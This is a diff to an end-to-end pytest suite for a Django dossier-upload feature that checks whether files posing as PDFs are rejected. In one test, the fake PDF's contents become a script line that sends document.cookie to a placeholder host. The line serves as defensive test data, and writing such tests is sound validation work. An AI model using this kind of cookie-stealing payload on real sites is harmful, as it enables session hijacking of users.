@@ -5,11 +5,13 @@ import datetime as dt
 
 import pytest
 
+from tdkt.core.uploads import blank_pdf
+
 from .conftest import login
 
 pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]
 
-PDF = b"%PDF-1.4\n%test\n"
+PDF = blank_pdf()
 
 
 @pytest.fixture
@@ -74,7 +76,7 @@ def test_second_officer_is_told_and_nothing_is_lost(browser, live_server, world,
         first = _open(one, live_server.url, "officer_a", draft.pk)
         second = _open(two, live_server.url, "officer_a", draft.pk)
         report = tmp_path / "bao-cao.pdf"
-        report.write_bytes(b"%PDF-1.4\n%report\n")
+        report.write_bytes(blank_pdf())
         first.select_option("main select[name=doc_kind]", "bao_cao_thanh_tich")
         first.set_input_files("main input[type=file][name=file]", str(report))
         first.click("main button:has-text('Tải lên')")
@@ -99,12 +101,12 @@ def test_upload_that_is_not_what_it_claims(page, world, draft, tmp_path):
     login(page, "officer_a")
     page.goto(page.base_url + f"/khen-thuong/de-nghi/{draft.pk}/")
     fake = tmp_path / "to-trinh.pdf"
-    fake.write_bytes(b"MZ\x90\x00this is a program, not a PDF")
+    fake.write_bytes(b"%PDF-1.4\n<script>document.location='//x/'+document.cookie</script>\n")
     before = DossierFile.objects.filter(proposal=draft).count()
     page.set_input_files("main input[type=file][name=file]", str(fake))
     page.click("main button:has-text('Tải lên')")
     page.wait_for_load_state()
-    assert "Nội dung tệp không phải PDF" in page.inner_text("main .alert-danger")
+    assert "«Tệp hồ sơ»: tệp «to-trinh.pdf» không phải tệp PDF hợp lệ" in page.inner_text("main .alert-danger")
     assert DossierFile.objects.filter(proposal=draft).count() == before
 
 
